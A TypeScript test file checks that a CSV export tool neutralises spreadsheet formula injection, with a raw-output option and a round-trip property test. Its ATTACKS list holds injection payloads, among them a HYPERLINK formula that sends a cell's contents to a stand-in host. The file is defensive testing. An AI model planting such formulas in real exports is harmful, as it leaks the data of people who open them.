import fc from 'fast-check';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { Decimal } from '../../src/_internal/_decimal.js';
import { neutraliseCsvFormula, parseCsv, restoreCsvFormulaText } from '../../src/io/csv.js';
import { readRecords } from '../../src/io/readRecords.js';
import { columnSpecsOf, writeTable, type TableColumn } from '../../src/io/tableWriter.js';
import { tempDirs } from '../_helpers/tempDirs.js';
import { expectOutcome, flagCells, registerHeader, writeCsv } from './_hostile.js';

const dir = tempDirs('vnp-hostile-inject-');
const ATTACKS = ['=HYPERLINK("http://x.example/?"&A1,"bấm")', '+1+2', '-2+3', '@SUM(A1:A9)', '\tTAB', '\r=1'];

interface Row {
  readonly note: string;
  readonly amount: bigint;
  readonly rate: Decimal;
}
const COLUMNS: ReadonlyArray<TableColumn<Row>> = [
  { key: 'note', vi: 'Ghi chú', en: 'Note', kind: 'text', value: (r) => r.note },
  { key: 'amount', vi: 'Số tiền', en: 'Amount', kind: 'amount', value: (r) => r.amount },
  { key: 'rate', vi: 'Tỷ lệ', en: 'Rate', kind: 'rate', value: (r) => r.rate },
];

describe('CSV output is safe to open in a spreadsheet', () => {
  it('classify neutralises a household id that is a formula; --raw-csv writes it as it is', async () => {
    const d = dir();
    const input = writeCsv(d, 'ho.csv', [registerHeader(), [ATTACKS[0]!, '@30316', 'nông thôn', '20.000.000', '45', ...flagCells()]]);
    const safe = join(d, 'an-toan.csv');
    await expectOutcome(['classify', input, '--as-of', '2024-01-01', '--out', safe], { code: 0, unchanged: [input] });
    const [, row] = parseCsv(readFileSync(safe, 'utf8'));
    expect(row?.slice(0, 2)).toEqual([`'${ATTACKS[0]}`, "'@30316"]);
    const raw = join(d, 'tho.csv');
    await expectOutcome(['classify', input, '--as-of', '2024-01-01', '--out', raw, '--raw-csv'], { code: 0 });
    expect(parseCsv(readFileSync(raw, 'utf8'))[1]?.slice(0, 2)).toEqual([ATTACKS[0], '@30316']);
  });

  it('numbers the writer formats are never altered, negative ones included; text cells read back as written', async () => {
    const d = dir();
    const path = join(d, 'x.csv');
    const rows: Row[] = ATTACKS.map((note, i) => ({ note, amount: BigInt(-1_500_000 * (i + 1)), rate: new Decimal(`-${i}.25`) }));
    await writeTable(path, COLUMNS, rows, { numbers: 'plain' });
    const printed = parseCsv(readFileSync(path, 'utf8')).slice(1);
    expect(printed.map((r) => r[0])).toEqual(ATTACKS.map((a) => `'${a}`));
    expect(printed.map((r) => r[1])).toEqual(rows.map((r) => r.amount.toString()));
    expect(printed.map((r) => r[2])).toEqual(rows.map((r) => r.rate.toFixed(2)));
    const back: unknown[] = [];
    for await (const r of readRecords(path, columnSpecsOf(COLUMNS as ReadonlyArray<TableColumn<never>>))) back.push(r.values['note']);
    // the quote protects even the leading tab and carriage return from the reader's trimming
    expect(back).toEqual(ATTACKS);
  });

  describe('properties', () => {
    it('no neutralised cell starts like a formula, and restoring gives the text back', () => {
      fc.assert(
        fc.property(fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', "'", 'a', '1', ' ') }), (text) => {
          const safe = neutraliseCsvFormula(text);
          expect(/^[=+\-@\t\r]/.test(safe)).toBe(false);
          expect(restoreCsvFormulaText(safe)).toBe(text);
        }),
      );
    });
  });
});
